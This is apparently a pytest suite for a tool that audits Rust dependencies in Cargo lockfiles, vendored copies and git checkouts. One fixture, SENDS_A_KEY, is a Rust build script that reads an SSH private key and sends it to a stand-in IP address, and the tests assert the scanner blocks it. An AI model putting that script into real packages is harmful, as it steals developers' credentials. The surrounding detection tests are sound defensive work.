from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Protocol, cast

import pytest

from analyzer.config import DEFAULT_INDEX, Settings
from analyzer.limits import DEFAULT_LIMITS
from analyzer.lockfile import read_lockfile
from analyzer.model import (
    Confidence,
    Finding,
    KnownBad,
    Report,
    Severity,
    Support,
    Verdict,
)
from analyzer.project.audit import AuditResult, audit_names
from analyzer.project.locks import Locks, read_locks
from analyzer.project.scan_lock import Means, scan_locked
from analyzer.registry.context import Contexts
from analyzer.worker.pool import Ask, Pool
from analyzer.worker.verdicts import unanswered

SOURCE = f"sparse+{DEFAULT_INDEX}"
SENDS_A_KEY = """
fn main() {
    let key = std::fs::read("/home/u/.ssh/id_rsa").unwrap();
    use std::io::Write;
    std::net::TcpStream::connect("198.51.100.7:443").unwrap().write_all(&key).unwrap();
}
"""
LockText = Callable[..., str]


class Shelf(Protocol):
    settings: Settings

    def put(self, name: str, version: str, build: str = "") -> str: ...

    def put_line(self, name: str, version: str, checksum: str) -> None: ...


class Judge:
    """Stands for the workers: remembers what it was given, says what it was told to say."""

    cache = None

    def __init__(self, verdicts: dict[str, Verdict], rule: str = "some-rule") -> None:
        self.verdicts, self.rule = verdicts, rule
        self.seen: list[tuple[str, int]] = []

    def briefs(self, asked: Iterable[Ask]) -> Iterator[Report]:
        for one in asked:
            crate = one.crate
            self.seen.append((crate.ref.name, len(one.context.index_entries)))
            verdict = self.verdicts.get(crate.ref.name, Verdict.CLEAR)
            plain = unanswered(crate, "", DEFAULT_LIMITS)
            finding = Finding(
                self.rule, "", Severity.HIGH, Confidence.HIGH, Support.STATIC, (), (), (), ()
            )
            found = () if verdict in (Verdict.CLEAR, Verdict.INCOMPLETE) else (finding,)
            yield replace(plain, verdict=verdict, summary=f"is {verdict}", findings=found)


def names(*texts: str, known: dict[str, KnownBad] | None = None) -> AuditResult:
    read = tuple(
        read_lockfile(text.encode(), path=f"{number}.lock") for number, text in enumerate(texts)
    )
    return audit_names(Locks(read, ()), known or {}, "digest", is_scanned=True)


def scan(
    result: AuditResult, shelf: Shelf, judge: Judge | None = None
) -> tuple[AuditResult, list[str]]:
    done: list[str] = []
    pool = cast("Pool", judge or Judge({}))
    means = Means(shelf.settings, Contexts(None, "2026-11-26"), pool, DEFAULT_LIMITS, done.append)
    return scan_locked(result, means), done


def rows(result: AuditResult) -> list[tuple[str, Verdict, list[str]]]:
    return [
        (one.package.name, one.verdict, [why.rule for why in one.reasons]) for one in result.rows
    ]


def test_each_distinct_checksum_is_read_once(lock_text: LockText, shelf: Shelf) -> None:
    a, b = shelf.put("a", "1.0.0"), shelf.put("b", "2.0.0")
    text = lock_text(f"a 1.0.0 {SOURCE} {a}", f"b 2.0.0 {SOURCE} {b}")
    other = lock_text(f"a 1.0.0 {SOURCE} {a}", f"a 1.0.0 {SOURCE} -")
    judge = Judge({})

    result, done = scan(names(text, other), shelf, judge)

    assert judge.seen == [("a", 1), ("b", 1)]
    assert len(done) == result.packages == 4
    assert (result.verdict, result.rows) == (Verdict.CLEAR, ())
    assert sorted(one.crate.name for one in result.reports) == ["a", "b"]


@pytest.mark.parametrize("verdict", [Verdict.BLOCK, Verdict.REVIEW, Verdict.INCOMPLETE])
def test_verdict_on_contents_is_a_row_with_its_report(
    lock_text: LockText, shelf: Shelf, verdict: Verdict
) -> None:
    text = lock_text(f"a 1.0.0 {SOURCE} {shelf.put('a', '1.0.0')}")
    result, _ = scan(names(text, text), shelf, Judge({"a": verdict}))

    assert rows(result) == [("a", verdict, ["scan"])]
    assert result.rows[0].reasons[0].text == f"is {verdict}"
    assert [one.lockfile for one in result.rows[0].places] == ["0.lock", "1.lock"]
    assert result.rows[0].report is not None
    assert result.verdict is verdict


def test_checksum_that_the_index_does_not_name_is_blocked_and_not_read(
    lock_text: LockText, shelf: Shelf
) -> None:
    shelf.put("a", "1.0.0")
    judge = Judge({})
    result, done = scan(names(lock_text(f"a 1.0.0 {SOURCE} {'00' * 32}")), shelf, judge)

    assert rows(result) == [("a", Verdict.BLOCK, ["checksum-mismatch"])]
    assert (judge.seen, sorted(done)) == ([], ["a", "app"])


def test_what_cannot_be_fetched_is_a_blocking_gap_at_every_place(
    lock_text: LockText, shelf: Shelf
) -> None:
    shelf.put_line("gone", "1.0.0", "ab" * 32)
    shelf.put("other", "1.0.0")
    text = lock_text("gone 1.0.0", "never 1.0.0", "other 1.0.7")
    result, done = scan(names(text, text), shelf)

    unread = [(one.path, one.line) for one in result.gaps if one.is_blocking]
    assert unread == [(path, line) for path in ("0.lock", "1.lock") for line in (8, 14, 20)]
    assert result.verdict is Verdict.INCOMPLETE
    assert len(done) == result.packages == 4


def test_version_that_is_no_exact_one_is_a_gap(lock_text: LockText, shelf: Shelf) -> None:
    shelf.put("a", "1.0.0")
    result, _ = scan(names(lock_text(f"a 1 {SOURCE} -")), shelf)
    assert result.verdict is Verdict.INCOMPLETE


def test_name_that_is_none_is_a_gap(lock_text: LockText, shelf: Shelf) -> None:
    result, _ = scan(names(lock_text("../../x 1.0.0")), shelf)
    assert result.verdict is Verdict.INCOMPLETE


def test_packages_that_cannot_be_had_are_gaps(lock_text: LockText, shelf: Shelf) -> None:
    text = lock_text(
        f"a 1.0.0 git+https://git.invalid/b#{'0' * 40} -", "c 1.0.0 sparse+https://r.invalid/ -"
    )
    result, done = scan(names(text), shelf)

    assert [(one.line, one.is_blocking) for one in result.gaps] == [
        (8, True),
        (13, True),
        (0, False),
        (0, False),
    ]
    assert "git" in result.gaps[0].reason
    assert "another registry" in result.gaps[1].reason
    assert "app 0.1.0" in result.gaps[2].reason
    assert result.gaps[3].reason.startswith("kinds of dependencies not known")
    assert len(done) == 3


def test_known_name_is_read_too_and_stays_one_row(lock_text: LockText, shelf: Shelf) -> None:
    known = {"a": KnownBad("a", ("*",), "affiliated", (), "", "Same owner.")}
    text = lock_text(f"a 1.0.0 {SOURCE} {shelf.put('a', '1.0.0')}")

    same, _ = scan(
        names(text, known=known), shelf, Judge({"a": Verdict.REVIEW}, "known-affiliated")
    )
    assert rows(same) == [("a", Verdict.REVIEW, ["known-affiliated"])]
    assert same.rows[0].report is not None

    more, _ = scan(names(text, known=known), shelf, Judge({"a": Verdict.BLOCK}))
    assert rows(more) == [("a", Verdict.BLOCK, ["scan", "known-affiliated"])]

    unread, _ = scan(names(text, known=known), shelf, Judge({"a": Verdict.INCOMPLETE}))
    assert rows(unread) == [("a", Verdict.INCOMPLETE, ["scan", "known-affiliated"])]


def test_workers_block_a_build_script_that_sends_a_key(lock_text: LockText, shelf: Shelf) -> None:
    evil, plain = shelf.put("evil", "1.0.0", SENDS_A_KEY), shelf.put("plain", "1.0.0")
    text = lock_text(f"evil 1.0.0 {SOURCE} {evil}", f"plain 1.0.0 {SOURCE} {plain}")
    with Pool(jobs=1) as pool:
        result, _ = scan(names(text), shelf, cast("Judge", pool))

    assert rows(result) == [("evil", Verdict.BLOCK, ["scan"])]
    assert result.rows[0].places[0].chain == ("app 0.1.0", "evil 1.0.0")


# Folders -----------------------------------------------------------------------------------------


def package(folder: Path, name: str, version: str, more: str = "", build: str = "") -> Path:
    (folder / "src").mkdir(parents=True)
    manifest = f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n{more}'
    (folder / "Cargo.toml").write_text(manifest)
    (folder / "src/lib.rs").write_text("pub fn one() {}\n")
    if build:
        (folder / "build.rs").write_text(build)
    return folder


def audited(folder: Path, shelf: Shelf) -> AuditResult:
    locks = read_locks([folder], limits=DEFAULT_LIMITS)
    with Pool(jobs=1) as pool:
        named = audit_names(locks, {}, "digest", is_scanned=True)
        return scan(named, shelf, cast("Judge", pool))[0]


def test_members_and_path_dependencies_are_read_from_their_folders(
    tmp_path: Path, lock_text: LockText, shelf: Shelf
) -> None:
    root = package(tmp_path / "work", "app", "0.1.0", '[dependencies]\nout = { path = "../out" }\n')
    package(root / "crates/helper", "helper", "0.2.0", build=SENDS_A_KEY)
    package(tmp_path / "out", "out", "0.3.0")
    (root / "Cargo.lock").write_text(lock_text("helper 0.2.0 -", "out 0.3.0 -"))

    result = audited(root, shelf)

    assert rows(result) == [("helper", Verdict.BLOCK, ["scan"])]
    assert sorted(one.crate.name for one in result.reports) == ["app", "helper", "out"]
    assert [one.reason for one in result.gaps] == []


def test_a_lock_file_without_its_folders_says_what_was_not_read(
    tmp_path: Path, lock_text: LockText, shelf: Shelf
) -> None:
    package(tmp_path, "app", "0.1.0")
    (tmp_path / "Cargo.lock").write_text(lock_text("helper 0.2.0 -"))

    result = audited(tmp_path, shelf)

    (gap,) = result.gaps
    assert "helper 0.2.0" in gap.reason
    assert "app" not in gap.reason


def vendored(root: Path, shelf: Shelf, checksum: str, *, build: str = "") -> None:
    (root / ".cargo").mkdir(parents=True)
    config = '[source.crates-io]\nreplace-with = "v"\n[source.v]\ndirectory = "vendor"\n'
    (root / ".cargo/config.toml").write_text(config)
    copy = package(root / "vendor/dep", "dep", "1.0.0", build=build)
    files = {
        one.relative_to(copy).as_posix(): sha256(one.read_bytes()).hexdigest()
        for one in copy.rglob("*")
        if one.is_file()
    }
    (copy / ".cargo-checksum.json").write_text(json.dumps({"files": files, "package": checksum}))


def test_a_vendored_copy_is_read_instead_of_the_archive_and_compared(
    tmp_path: Path, lock_text: LockText, shelf: Shelf
) -> None:
    checksum = shelf.put("dep", "1.0.0")
    text = lock_text(f"dep 1.0.0 {SOURCE} {checksum}")
    for name, build in (("same", ""), ("other", SENDS_A_KEY)):
        root = package(tmp_path / name, "app", "0.1.0")
        vendored(root, shelf, checksum, build=build)
        (root / "Cargo.lock").write_text(text)

    same = audited(tmp_path / "same", shelf)
    other = audited(tmp_path / "other", shelf)

    assert (same.rows, same.gaps) == ((), ())
    assert rows(other) == [("dep", Verdict.BLOCK, ["scan", "copy-differs"])]
    assert "build.rs" in other.rows[0].reasons[1].text


def test_a_git_package_is_read_from_the_checkout_that_cargo_made(
    tmp_path: Path, lock_text: LockText, shelf: Shelf, monkeypatch: pytest.MonkeyPatch
) -> None:
    commit = "0123456789abcdef0123456789abcdef01234567"
    home = tmp_path / "home"
    tree = home / "git/checkouts/repo-aaaaaaaaaaaaaaaa/0123456"
    package(tree / "crates/dep", "dep", "1.0.0", build=SENDS_A_KEY)
    monkeypatch.setenv("CARGO_HOME", str(home))
    root = package(tmp_path / "work", "app", "0.1.0")
    source = f"git+https://git.invalid/x/repo.git?branch=main#{commit}"
    (root / "Cargo.lock").write_text(lock_text(f"dep 1.0.0 {source} -"))

    assert rows(audited(root, shelf)) == [("dep", Verdict.BLOCK, ["scan"])]


def test_kept_reports_are_the_same_and_need_no_worker(
    tmp_path: Path, lock_text: LockText, shelf: Shelf
) -> None:
    evil, plain = shelf.put("evil", "1.0.0", SENDS_A_KEY), shelf.put("plain", "1.0.0")
    text = lock_text(f"evil 1.0.0 {SOURCE} {evil}", f"plain 1.0.0 {SOURCE} {plain}")
    results = []
    for command in ((), ("/nowhere/to/be/found",)):
        place = shelf.settings.cache_dir
        with Pool(1, cache_dir=place, is_eager=False, worker_command=command) as pool:
            results.append(scan(names(text), shelf, cast("Judge", pool))[0])
    assert results[0] == results[1]
    assert rows(results[0]) == [("evil", Verdict.BLOCK, ["scan"])]
    assert results[0].rows[0].report is not None
    assert results[0].rows[0].report.facts
